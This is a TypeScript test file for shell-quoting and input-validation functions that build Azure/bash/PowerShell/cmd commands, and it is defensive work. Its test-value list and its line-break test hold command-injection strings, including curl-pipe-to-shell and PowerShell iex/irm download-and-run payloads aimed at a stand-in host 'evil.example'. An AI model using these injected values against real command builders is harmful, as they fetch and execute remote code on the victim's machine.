/**
 * The quoting functions on their own, with values meant to break out: whatever the value, bash
 * and PowerShell receive it as exactly one literal argument, and cmd refuses what it cannot hold.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { quoteBash, quoteCmd, quotePowerShell, quotePowerShellList } from '../../src/text/shell-quote.ts';
import { shellWords } from '../../src/text/shell-words.ts';
import { bashArgv, powerShellArguments } from './shell-rules.ts';

const NASTY = [
  'rg-net$(curl${IFS}-s${IFS}evil.example|sh)',
  'vnet`id`',
  "it's",
  "'; id; '",
  '"; id; "',
  '\\',
  "\\'",
  '$HOME',
  '${IFS}',
  '!!',
  '*',
  '~',
  '-rf',
  '',
  ' ',
  'a b',
  'rg-net(prod).eu',
  'rg-Müller.Netz',
  "$(iex(irm('http://evil.example/p')))",
  'x\u2019; iex(irm evil.example); \u2018',
  '\u201c$(iex)\u201d',
  '#comment',
  'a;b|c&d<e>f',
  '{a,b}',
];

test('bash: every value is one literal argument, outside quotes, inside single and inside double quotes', () => {
  for (const value of NASTY) {
    assert.deepEqual(bashArgv(`az ${quoteBash(value, 'bare')}`), [value], `bare ${JSON.stringify(value)}`);
    assert.deepEqual(bashArgv(`az 'pre-${quoteBash(value, 'single')}-post'`), [`pre-${value}-post`], `single ${JSON.stringify(value)}`);
    assert.deepEqual(bashArgv(`az "pre-${quoteBash(value, 'double')}-post"`), [`pre-${value}-post`], `double ${JSON.stringify(value)}`);
  }
});

test('bash: plain names stay readable, anything else is single-quoted with \'\\\'\'', () => {
  assert.equal(quoteBash('rg-net'), 'rg-net');
  assert.equal(quoteBash('10.0.0.0/24'), '10.0.0.0/24');
  assert.equal(quoteBash('rg-net(prod).eu'), "'rg-net(prod).eu'");
  assert.equal(quoteBash("it's"), "'it'\\''s'");
});

test('no shell gets a line break, a control character or a bidi control', () => {
  for (const value of ['gw\ncurl -s http://evil.example/x | sh', 'gw\rx', 'gw\u001b]0;x\u0007', 'gw\u202e', 'gw\u2066x\u2069', 'gw\u2028x']) {
    assert.equal(quoteBash(value), undefined, JSON.stringify(value));
    assert.equal(quotePowerShell(value), undefined, JSON.stringify(value));
    assert.equal(quoteCmd(value), undefined, JSON.stringify(value));
  }
});

test('PowerShell: single quotes, every kind of single quote doubled, numbers bare (about_Quoting_Rules)', () => {
  for (const value of NASTY.filter((item) => item !== '')) {
    assert.deepEqual(powerShellArguments(`Resolve-DnsName ${quotePowerShell(value)}`), [['Resolve-DnsName'], [value]], JSON.stringify(value));
    assert.deepEqual(powerShellArguments(`Write-Output "pre-${quotePowerShell(value, 'double')}-post"`), [['Write-Output'], [`pre-${value}-post`]], JSON.stringify(value));
    assert.deepEqual(powerShellArguments(`Write-Output 'pre-${quotePowerShell(value, 'single')}-post'`), [['Write-Output'], [`pre-${value}-post`]], JSON.stringify(value));
  }
  assert.equal(quotePowerShell("o'brien"), "'o''brien'");
  assert.equal(quotePowerShell('x\u2019y'), "'x\u2019\u2019y'");
  assert.equal(quotePowerShell('1433'), '1433');
  assert.equal(quotePowerShell('-Force'), "'-Force'");
  assert.deepEqual(powerShellArguments(`New-NetFirewallRule -RemoteAddress ${quotePowerShellList(['10.0.0.0/8', "a'b"])}`), [['New-NetFirewallRule'], ['-RemoteAddress'], ['10.0.0.0/8', "a'b"]]);
});

test('cmd (Kudu console): values holding & | < > ^ % " ! or spaces are refused, others pass unchanged', () => {
  for (const char of ['&', '|', '<', '>', '^', '%', '"', '!', ' ', '\t']) assert.equal(quoteCmd(`db${char}x`), undefined, JSON.stringify(char));
  assert.equal(quoteCmd('db.contoso.internal'), 'db.contoso.internal');
  assert.equal(quoteCmd('10.0.0.4'), '10.0.0.4');
  assert.equal(quoteCmd(''), undefined);
});

test('a long command breaks only at spaces its shell splits at, never inside a quoted value', () => {
  assert.deepEqual(shellWords(`az vnet create --location 'West Europe' -g "a b" x\\ y`, 'bash'), ['az', 'vnet', 'create', '--location', "'West Europe'", '-g', '"a b"', 'x\\ y']);
  assert.deepEqual(shellWords(`Resolve-DnsName 'it''s here' -Server x`, 'powershell'), ['Resolve-DnsName', "'it''s here'", '-Server', 'x']);
});

test('values are checked against the naming rules of what they are', async () => {
  const { ruleFor, validForRule } = await import('../../src/engine/command-values.ts');
  const text = { type: 'text', label: 'x' } as const;
  const valid = (key: string, value: string) => validForRule(value, ruleFor(key, text));
  assert.ok(valid('app.resourceGroup', 'rg-net(prod).eu'));
  assert.ok(valid('app.resourceGroup', 'rg-Müller.Netz'));
  assert.ok(!valid('app.resourceGroup', 'rg-net.'), 'a resource group cannot end in a period');
  assert.ok(!valid('app.resourceGroup', 'a'.repeat(91)), 'at most 90 characters');
  assert.ok(!valid('app.resourceGroup', '--subscription'), 'a leading hyphen would read as an option');
  assert.ok(valid('gateway.name', 'gw-hub_'));
  assert.ok(!valid('gateway.name', '-gw'), 'starts alphanumeric');
  assert.ok(!valid('gateway.name', 'gw.'), 'ends alphanumeric or underscore');
  assert.ok(!valid('vnet.name', 'vnet(1)'));
  assert.ok(!valid('vnet.name', 'a'.repeat(81)));
  assert.ok(valid('vnet.resourceId', '/subscriptions/5f0b1a2c-3d4e-4f60-8a7b-9c0d1e2f3a4b/resourceGroups/rg-net(prod)/providers/Microsoft.Network/virtualNetworks/vnet-hub'));
  assert.ok(!valid('vnet.resourceId', '/subscriptions/x/resourceGroups/rg;id/providers/Microsoft.Network/virtualNetworks/vnet-hub'));
  assert.ok(validForRule('10.0.0.4', 'ip') && !validForRule('10.0.0.256', 'ip') && !validForRule('10.0.0.4; id', 'ip'));
  assert.ok(validForRule('10.0.0.0/24', 'cidr') && !validForRule('10.0.0.0/33', 'cidr'));
  assert.ok(validForRule('db.contoso.internal', 'hostname') && !validForRule('db contoso', 'hostname') && !validForRule('-db.x', 'hostname'));
  assert.ok(validForRule('443', 'port') && !validForRule('0', 'port') && !validForRule('65536', 'port'));
  assert.ok(!validForRule('line one\nline two', 'text') && !validForRule('a\u202eb', 'text'));
});
